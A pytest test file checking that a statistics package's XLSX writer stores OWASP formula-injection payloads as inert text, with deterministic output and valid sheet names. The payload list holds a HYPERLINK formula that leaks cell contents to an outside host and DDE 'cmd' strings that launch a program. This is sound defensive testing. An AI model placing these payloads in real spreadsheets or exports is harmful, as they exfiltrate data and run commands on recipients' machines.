"""Tests for cprstats.io.spreadsheet: workbooks whose text is never a formula, byte-identical across runs.

Reference values: the payloads are the OWASP "CSV Injection" examples
(https://owasp.org/www-community/attacks/CSV_Injection); a formula is stored in a worksheet as
an ``<f>`` element (ECMA-376 Part 1, §18.3.1.40), so a sheet without ``<f>`` holds none. The
sheet-name rules (at most 31 characters, none of [ ] : * ? / \\) are Excel's ("Rename a
worksheet", Microsoft Support).
"""

from __future__ import annotations

import hashlib
import time
import zipfile

import pandas as pd
import pytest

import cprstats.io.spreadsheet as xlsxio
from cprstats.errors import ParameterError

OWASP_PAYLOADS = [
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


# ------------------------------------------------------------------ XLSX
def test_write_xlsx_never_stores_formulas(tmp_path):
    import openpyxl

    df = pd.DataFrame(
        {
            "text": OWASP_PAYLOADS + ["Ynys Môn", None],
            "n": [-3, 1, 2, 3, 4, 5, 6],
            "p": pd.period_range("2020-01", periods=7, freq="M"),
        }
    )
    p = xlsxio.write_xlsx({"Table 1": df}, tmp_path / "t.xlsx")
    with zipfile.ZipFile(p) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere (ECMA-376 §18.3.1.40)
    ws = openpyxl.load_workbook(p)["Table 1"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("text", "n", "p")
    assert [r[0] for r in rows[1:]] == OWASP_PAYLOADS + ["Ynys Môn", None]
    assert rows[1][1] == -3 and rows[1][2] == "2020-01"
    assert ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert not ws["A7"].quotePrefix


def test_write_xlsx_is_byte_identical_across_runs(tmp_path):
    df = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    p = xlsxio.write_xlsx({"a": df, "b": df}, tmp_path / "t.xlsx")
    first = hashlib.sha256(p.read_bytes()).hexdigest()
    time.sleep(1.1)  # the zip timestamps have a 2 s resolution; core.xml has 1 s
    p = xlsxio.write_xlsx({"a": df, "b": df}, tmp_path / "t.xlsx")
    assert hashlib.sha256(p.read_bytes()).hexdigest() == first


@pytest.mark.parametrize("name", ["a" * 32, "a/b", "x[1]", "", "'q'"])
def test_write_xlsx_sheet_names_follow_excel_rules(tmp_path, name):
    with pytest.raises(ParameterError, match="sheet name"):
        xlsxio.write_xlsx({name: pd.DataFrame({"a": [1]})}, tmp_path / "t.xlsx")
    assert not (tmp_path / "t.xlsx").exists()


def test_write_xlsx_strips_control_characters(tmp_path):
    import openpyxl

    p = xlsxio.write_xlsx({"s": pd.DataFrame({"a": ["bell\x07here"]})}, tmp_path / "t.xlsx")
    assert openpyxl.load_workbook(p)["s"]["A2"].value == "bell\ufffdhere"


def test_save_workbook_requires_xlsx(tmp_path):
    from openpyxl import Workbook

    with pytest.raises(ParameterError, match=r"must end in \.xlsx"):
        xlsxio.save_workbook(Workbook(), tmp_path / "t.csv")
